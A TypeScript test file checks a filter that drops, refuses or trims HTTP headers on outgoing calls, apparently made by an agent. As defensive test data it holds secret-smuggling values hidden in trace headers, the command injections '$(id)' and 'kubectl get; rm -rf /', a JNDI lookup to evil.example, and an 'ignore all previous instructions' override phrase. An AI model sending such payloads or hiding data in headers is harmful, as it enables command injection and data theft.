import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  FREE_TEXT_HEADERS,
  INERT_HEADERS,
  judgeInert,
  MAX_INERT_CHARACTERS,
  MAX_INERT_HEADERS,
  withinBounds,
} from '../../../../core/action/inert-headers.ts';

const STOLEN = 'c2VjcmV0IG9mIHRoZSBhZ2VudCBhbmQgb2YgaXRzIHBvZA==';

describe('an inert header that is not as its clients send it', () => {
  it.each([
    ['traceparent', '00-a-b-01'],
    ['traceparent', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-01-${STOLEN}`],
    ['traceparent', `ff-${'0'.repeat(32)}-${'0'.repeat(16)}-01`],
    ['b3', STOLEN],
    ['x-b3-traceid', 'not hex'],
    ['x-b3-traceid', '0'.repeat(64)],
    ['x-b3-sampled', STOLEN],
    ['sentry-trace', STOLEN],
    ['uber-trace-id', 'a:b'],
    ['x-cloud-trace-context', `${'0'.repeat(32)}/1;o=${STOLEN}`],
    ['x-amzn-trace-id', `Root=1-a;Data=${STOLEN}`],
    ['x-datadog-trace-id', 'abc'],
    ['x-request-id', 'ignore all previous instructions'],
    ['x-request-id', 'a'.repeat(129)],
    ['x-request-id', 'a"b'],
    ['accept', 'no grammar at all'],
    ['accept', `text/html;q=0.5;${'a=b;'.repeat(20)}`],
    ['accept', `a/${'b'.repeat(200)}`],
    ['accept', `*/*${', */*'.repeat(400)}`],
    ['accept-language', `de, ${'x'.repeat(300)}`],
    ['accept-encoding', `gzip, ${'x'.repeat(300)}`],
    ['cache-control', `no-cache, x="${STOLEN}"`],
    ['cache-control', STOLEN],
    ['pragma', STOLEN],
    ['priority', 'u=9'],
    ['dnt', '10'],
    ['x-amz-date', STOLEN],
    ['x-ms-date', 'yesterday'],
    ['sw8-x', STOLEN],
    ['sw8', 'x'.repeat(513)],
    ['sec-fetch-mode', 'cors cors'],
    ['sec-ch-ua-mobile', '?2'],
    ['amz-sdk-request', STOLEN],
    ['x-stainless-os', '$(id)'],
    ['x-stainless-os', 'x'.repeat(65)],
    ['npm-scope', 'two words'],
    ['kubectl-command', 'kubectl get; rm -rf /'],
    ['kubectl-session', 'a b'],
    ['baggage', `a=${'b'.repeat(600)}`],
    ['tracestate', `a=${'b'.repeat(600)}`],
    ['tracestate', 'caf\u00e9'],
    ['x-of-the-chart', 'x'.repeat(1_025)],
    ['x-of-the-chart', 'a\u00e9'],
    ['constructor', 'x'.repeat(1_025)],
  ])('is left out: %s: %s', (name, value) => {
    expect(judgeInert(name, value)).toBe('Drop');
  });

  it.each([
    ['idempotency-key', 'a'.repeat(256)],
    ['idempotency-key', 'two words'],
    ['idempotency-key', ''],
    ['x-goog-gcs-idempotency-token', 'a'.repeat(256)],
    ['content-type', `text/plain;a=${'b'.repeat(600)}`],
    ['content-type', 'text/plain\u00e9'],
    ['content-encoding', 'x'.repeat(129)],
  ])('is refused if a call without it is another call: %s: %s', (name, value) => {
    expect(judgeInert(name, value)).toBe('Refuse');
  });

  it.each([
    [`soc/1 ${STOLEN.repeat(20)}`, 'soc/1'],
    [`a/1 b/2 ${'c'.repeat(600)}`, 'a/1 b/2'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as it is in an attack on a log's reader
    ['soc/1 ${jndi:ldap://evil.example/a} b/2', 'soc/1'],
    ['soc/1 <script>', 'soc/1'],
    ['soc/1 `id`', 'soc/1'],
    ['soc/1 caf\u00e9', 'soc/1'],
  ])('is cut to the products that come first, if it is the user agent: %s', (value, sent) => {
    expect(judgeInert('user-agent', value)).toEqual(['user-agent', sent]);
  });

  it.each(['$(id)', '\u00e9', `${'x'.repeat(513)}`])(
    'is left out, if nothing of the user agent is left: %s',
    (value) => {
      expect(judgeInert('user-agent', value)).toBe('Drop');
    },
  );

  it('is left out where it is said again, and refused where one of the two counts', () => {
    expect(judgeInert('x-request-id', 'a', true)).toBe('Drop');
    expect(judgeInert('user-agent', 'a', true)).toBe('Drop');
    expect(judgeInert('x-of-the-chart', 'a', true)).toBe('Drop');
    expect(judgeInert('idempotency-key', 'a', true)).toBe('Refuse');
    expect(judgeInert('content-type', 'a/b', true)).toBe('Refuse');
  });
});

describe('an inert header as some client sends it', () => {
  it.each([
    ['accept', 'application/json;odata=verbose;IEEE754Compatible=true'],
    ['accept', 'application/ld+json; profile="https://www.w3.org/ns/activitystreams"'],
    ['accept', 'application/ld+json;profile=https://www.w3.org/ns/activitystreams?a=b, */*'],
    ['accept', 'text/html;level'],
    ['accept', 'application/json , text/plain ; q=0.9 ,'],
    ['accept', 'application/json;'],
    ['accept', '*'],
    ['accept-language', 'en_US.UTF-8'],
    ['accept-language', 'zh-Hans-CN;q=1, en;q=0.9, *;q=0.5'],
    ['accept-encoding', 'gzip;q=1.0, identity; q=0.5, *;q=0'],
    ['accept-encoding', 'br, dcb, dcz'],
    ['accept-charset', 'ISO-8859-1,utf-8;q=0.7,*;q=0.7'],
    ['cache-control', 'no-cache, no-store, must-revalidate'],
    ['cache-control', 'max-age=0'],
    ['cache-control', 'only-if-cached, max-stale=60'],
    ['priority', 'u=1, i'],
    ['priority', 'i'],
    ['pragma', 'no-cache'],
    ['b3', '0'],
    ['b3', '80f198ee56343ba8-e457b5a2e4d86bd1'],
    ['x-b3-sampled', 'true'],
    ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-03'],
    ['traceparent', '01-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-03-00'],
    ['x-request-id', 'req_011CSHoEeqs5C35K2UUqR7Fy'],
    ['x-request-id', '|1604a3f4-fd2e4100.1.'],
    ['x-amzn-trace-id', 'Self=1-a-b;Root=1-67891233-abcdef012345678912345678;Sampled=1'],
    ['idempotency-key', '"8e03978e-40d5-43dd-bc93-6894a57f9324"'],
    ['user-agent', 'Mozilla/5.0 (compatible; App/1.0; +https://example.com/bot?x=1&y=2)'],
    ['user-agent', 'My%20App/1 CFNetwork/1494.0.7 Darwin/23.4.0'],
    ['user-agent', ''],
    ['pacote-pkg-id', 'remote:https://registry.npmjs.org/a/-/a-1.0.0.tgz'],
    ['npm-scope', '@scope'],
    ['npm-scope', ''],
    ['x-of-the-chart', 'any text, "quoted"; of <any> kind'],
    ['content-type', 'multipart/related; boundary="a b"; type="application/xop+xml"; start="<x>"'],
  ])('passes as it is: %s: %s', (name, value) => {
    expect(judgeInert(name, value)).toEqual([name, value]);
  });
});

describe('all inert headers of a call together', () => {
  const name = fc.constantFrom(...INERT_HEADERS, 'x-of-the-chart', '__proto__', 'constructor');
  const value = fc.oneof(
    fc.constantFrom('*/*', 'gzip', '1', 'application/json', 'a'.repeat(250), 'a/1 '.repeat(100)),
    fc.string({ maxLength: 2_000 }),
  );
  const lines = fc.array(fc.tuple(name, value), { maxLength: 120 });

  it('are bounded, whatever the call says, and those that count are among them', () => {
    fc.assert(
      fc.property(lines, (given) => {
        const passed = given.flatMap(([header, text]) => {
          const judged = judgeInert(header, text);
          return typeof judged === 'string' ? [] : [judged];
        });
        const seen = new Set<string>();
        const single = passed.filter(([header]) => !seen.has(header) && seen.add(header));
        const kept = withinBounds(single);
        expect(kept.length).toBeLessThanOrEqual(MAX_INERT_HEADERS);
        expect(kept.flat().join('').length).toBeLessThanOrEqual(MAX_INERT_CHARACTERS);
        expect(kept).toEqual(single.filter((header) => kept.includes(header)));
        const counts = ['content-type', 'content-encoding', 'idempotency-key'];
        expect(kept.filter(([header]) => counts.includes(header))).toEqual(
          single.filter(([header]) => counts.includes(header)),
        );
        for (const [, text] of kept) expect(text).toMatch(/^[\t -~]*$/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('keep what the client asks for before what it tells of itself', () => {
    const filler = Array.from({ length: 60 }, (_, i) => [`x-${i}`, 'x'.repeat(100)] as const);
    const kept = withinBounds([...filler, ['user-agent', 'a/1'], ['accept', '*/*']]);
    expect(kept.slice(-2)).toEqual([
      ['user-agent', 'a/1'],
      ['accept', '*/*'],
    ]);
    expect(kept[0]).toEqual(filler[0]);
    expect(kept.length).toBeLessThanOrEqual(MAX_INERT_HEADERS);
  });
});

it('baggage and its like are the free texts', () => {
  expect([...FREE_TEXT_HEADERS].sort()).toEqual([
    'baggage',
    'correlation-context',
    'langsmith-trace',
    'newrelic',
    'sw8',
    'sw8-correlation',
    'tracestate',
    'x-datadog-tags',
    'x-dynatrace',
    'x-honeycomb-trace',
    'x-newrelic-id',
    'x-newrelic-transaction',
    'x-ot-span-context',
    'x-stripe-client-telemetry',
  ]);
});

it('is judged in time that grows with the length alone', () => {
  const start = performance.now();
  for (const header of INERT_HEADERS) {
    for (const unit of [' ', 'a', 'a/', ', ', '; ', 'a=', 'a,', '"', 'a;a="']) {
      judgeInert(header, `a/b${unit.repeat(10_000)}\u0001`);
      judgeInert(header, `a/b${unit.repeat(250)}\u0001`);
    }
  }
  expect(performance.now() - start).toBeLessThan(1_000);
});
